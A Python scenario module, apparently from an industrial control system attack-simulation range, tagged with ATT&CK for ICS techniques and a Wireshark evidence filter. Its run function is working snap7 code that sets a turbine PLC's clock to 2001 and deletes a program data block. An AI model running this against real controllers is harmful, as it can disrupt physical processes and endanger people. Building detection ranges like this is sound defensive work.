"""A block of the turbine PLC is deleted and its clock set."""

from __future__ import annotations

import contextlib
from datetime import datetime

from snap7.client import Client
from snap7.type import Block

from ..devices.s7_plc import PROGRAM
from ..node import Node

TITLE = "Block of the turbine PLC deleted and its clock set, by the engineering workstation"
TECHNIQUES = ("T0889", "T0809", "T0872")
ORIGIN = "ews"
ENTITIES = ("ews", "plc-turbine")
EVIDENCE = "s7comm && ip.src == 10.20.3.20 && tcp.dstport == 102"


def run(node: Node) -> None:
    """Set the clock to another year, then ask for the deletion twice."""
    client = Client()
    client.connect(node.peer("plc-turbine"), 0, 2)
    for action in (
        lambda: client.set_plc_datetime(datetime(2001, 1, 1, 3, 0, 0)),  # noqa: DTZ001 - a PLC's
        lambda: client.delete(Block.DB, PROGRAM),
        lambda: client.delete(Block.DB, PROGRAM),
    ):
        with contextlib.suppress(Exception):  # refused or not: it was asked
            action()
        node.pause(0.8)
    client.disconnect()
